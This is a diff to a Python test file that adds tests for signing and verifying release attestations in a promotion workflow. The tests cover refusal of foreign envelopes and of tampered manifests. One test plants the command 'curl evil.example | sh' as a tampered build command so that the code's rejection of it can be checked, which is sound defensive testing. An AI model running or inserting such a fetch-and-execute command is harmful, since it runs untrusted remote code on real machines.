@@ -6,12 +6,17 @@ from dataclasses import replace
 
 import pytest
 
-from lifecycle.application.delivery.promote import Promoted, promote
-from lifecycle.domain.errors import DigestMismatch, InvalidValue, Refused, Unknown
+from lifecycle.application.delivery.promote import promote
+from lifecycle.application.ports.promotions import Promoted
+from lifecycle.domain.errors import DigestMismatch, ForeignObject, InvalidValue, Refused, Unknown
+from lifecycle.domain.service.attestation import Attestation
 from lifecycle.domain.service.manifest import Run
 from lifecycle.domain.service.published import Published
+from lifecycle.domain.service.trusted_keys import verified
+from lifecycle.gateways import p256
 from tests.fakes.artifacts import MemoryArtifacts
 from tests.fakes.catalogue import MemoryCatalogue
+from tests.fakes.signer import SIGNER
 from tests.support.rollout import manifest
 from tests.support.ungated import ungated
 
@@ -47,7 +52,7 @@ class Shop:
             self.catalogue.record_snapshot("hello", version, {"digest": made.digest})
 
     def promote(self, snapshot: str = SNAPSHOT) -> Promoted:
-        return promote(self.catalogue, self.artifacts, "hello", snapshot, "ada", ungated)
+        return promote(self.catalogue, self.artifacts, SIGNER, "hello", snapshot, "ada", ungated)
 
     def releases(self) -> Mapping[str, str]:
         return self.catalogue.releases("hello")
@@ -160,3 +165,56 @@ def test_release_of_another_version_of_lifecycle_is_not_written_differently() ->
     shop.catalogue.record_published("hello", "1.0.0", Published(MADE.digest, "c" * 64, "grace"))
     with pytest.raises(Refused, match="push its commit again, and promote that snapshot"):
         shop.promote()
+
+
+def signed(shop: Shop, release: str = "1.0.0") -> Attestation:
+    """Return what is signed of a release, as a host sees it."""
+    stored = shop.artifacts.stored_manifest("hello", release)
+    wanted = Attestation("hello", release, stored.manifest.digest, stored.sha256)
+    return verified(shop.artifacts.envelope("hello", release), wanted, [SIGNER.trusted], p256.verify)
+
+
+def test_release_is_signed_for_its_service_version_and_bytes() -> None:
+    shop = Shop()
+    shop.promote()
+    found = signed(shop)
+    assert (found.commit, found.run, found.snapshot) == (MADE.commit, "build-1", SNAPSHOT)
+    assert found.promoted_by == "ada"
+
+
+def test_promotion_again_keeps_the_first_signature() -> None:
+    shop = Shop()
+    shop.promote()
+    first = shop.artifacts.envelope("hello", "1.0.0")
+    shop.promote()
+    assert shop.artifacts.envelope("hello", "1.0.0") == first
+
+
+def test_release_from_before_signatures_is_signed_when_it_is_promoted_again() -> None:
+    shop = Shop()
+    shop.promote()
+    shop.artifacts.replace_envelope("hello", "1.0.0", "")
+    assert not shop.promote().created
+    assert signed(shop).promoted_by == "ada"
+
+
+@pytest.mark.parametrize("there", ["rubbish", "of another version"])
+def test_envelope_of_something_else_is_not_taken_for_the_releases_own(there: str) -> None:
+    shop = Shop()
+    shop.promote()
+    shop.promote(OTHER)
+    text = shop.artifacts.envelope("hello", "1.0.1") if there == "of another version" else there
+    shop.artifacts.replace_envelope("hello", "1.0.0", text)
+    with pytest.raises(ForeignObject, match=r"the envelope of hello 1\.0\.0 exists with other bytes"):
+        shop.promote()
+
+
+def test_manifest_that_was_replaced_after_its_promotion_is_not_signed() -> None:
+    shop = Shop()
+    shop.promote()
+    shop.artifacts.replace_envelope("hello", "1.0.0", "")
+    own = shop.artifacts.manifest("hello", "1.0.0")
+    shop.artifacts.replace_manifest(replace(own, run=replace(own.run, command="curl evil.example | sh")))
+    with pytest.raises((DigestMismatch, ForeignObject)):
+        shop.promote()
+    assert shop.artifacts.envelope("hello", "1.0.0") == ""
